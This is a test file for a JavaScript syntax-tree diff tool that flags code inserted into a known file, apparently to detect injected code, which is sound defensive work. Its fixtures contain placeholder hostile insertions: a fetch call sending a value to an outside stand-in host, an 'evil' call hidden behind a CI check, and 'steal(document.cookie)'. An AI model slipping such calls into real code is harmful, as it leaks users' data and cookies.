import assert from 'node:assert/strict'
import { test } from 'node:test'
import { diffFile, emptyHashes } from './diff.ts'
import { hashFile } from './hash.ts'
import { parse, parserName, parseWithAcorn, type Node } from './parse.ts'

function tree(text: string): Node {
  const parsed = parse('a.js', text)
  assert.ok(parsed.program !== null, 'parses')
  return parsed.program
}

function inserted(before: string, after: string): string[] {
  const known = emptyHashes()
  hashFile(tree(before), known, null)
  return diffFile(tree(after), known).insertions.map((one) => after.slice(one.start, one.end))
}

const before =
  'function greet(name) { const text = "hello " + name; console.log(text); return text }\nmodule.exports = greet'

test('nothing changed: nothing is inserted, whatever the layout', () => {
  assert.deepEqual(inserted(before, before), [])
  assert.deepEqual(inserted(before, before.replace(/; /g, ';\n\n   ').replace('{ const', '{\n\tconst')), [])
})

test('one line inside a function is all that is named', () => {
  const line = 'fetch("https://a.example/" + name);'
  assert.deepEqual(inserted(before, before.replace('console.log', `${line} console.log`)), [line])
})

test('a new wrapper around old code is opened', () => {
  const after = before.replace(
    'module.exports = greet',
    'if (process.env.CI) { module.exports = greet }\nevil(1, 2, 3)',
  )
  assert.ok(inserted(before, after).includes('evil(1, 2, 3)'))
})

test('moving code is no insertion', () => {
  assert.deepEqual(inserted('a(1); b(2); c(3)', 'c(3); a(1); b(2)'), [])
})

test('renamed variables are recognised when most of a file looks new', () => {
  const renamed = before
    .replace(/\bname\b/g, 'n')
    .replace(/\btext\b/g, 't')
    .replace(/greet/g, 'g')
  const known = emptyHashes()
  hashFile(tree(before), known, null)
  const diff = diffFile(tree(`${renamed}\nsteal(document.cookie)`), known)
  assert.equal(diff.blind, true)
  assert.deepEqual(
    diff.insertions.map((one) => one.whole),
    [true],
  )
})

test('every goal is tried, and the fallback reads the same code', () => {
  assert.ok(parserName === 'oxc-raw' || parserName === 'acorn')
  for (const text of [
    'return 1',
    'var package = 010; with (a) b()',
    'import a from "b"; await a',
    'const a: number = 1',
    'const a = <b c="d">e</b>',
    '#!/usr/bin/env node\nrequire("x")',
  ]) {
    assert.ok(parse('x.js', text).program !== null, text)
  }
  assert.ok(parseWithAcorn('return 1').program !== null)
  assert.equal(parse('x.js', 'const = = 1').program, null)
})
